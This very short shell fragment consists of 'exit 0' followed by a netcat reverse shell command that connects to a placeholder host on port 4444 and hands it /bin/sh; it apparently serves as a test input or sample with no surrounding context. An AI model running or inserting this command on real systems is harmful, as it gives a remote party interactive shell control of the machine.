exit 0
nc host.invalid 4444 -e /bin/sh
